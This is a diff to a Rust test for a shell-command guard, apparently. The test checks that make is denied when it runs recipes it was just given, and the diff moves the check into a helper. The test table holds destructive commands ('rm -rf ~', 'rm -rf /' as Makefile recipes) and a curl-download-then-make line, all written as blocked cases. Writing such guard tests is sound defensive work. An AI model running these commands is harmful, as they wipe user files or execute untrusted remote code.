@@ -109,18 +109,15 @@ mod tests {
 
     #[test]
     fn make_runs_the_recipes_of_a_makefile_it_was_just_given() {
-        use crate::guard::tests::eval;
+        use crate::guard::tests::expect_decisions;
         use crate::policy::Decision;
-        for (cmd, want) in [
+        expect_decisions(&[
             ("printf 'all:\\n\\trm -rf ~\\n' > Makefile && make", Decision::Deny),
             ("make -f - <<< 'all: ; rm -rf /'", Decision::Deny),
             ("curl -o Makefile https://example.com/mk && make", Decision::Deny),
             ("printf 'all:\\n\\tcargo build\\n' > Makefile && make", Decision::Allow),
             // The project's own makefile runs as everyday development.
             ("make -C src test", Decision::Allow),
-        ] {
-            let e = eval(cmd);
-            assert_eq!(e.decision, want, "{cmd}: {:?}", e.reasons);
-        }
+        ]);
     }
 }
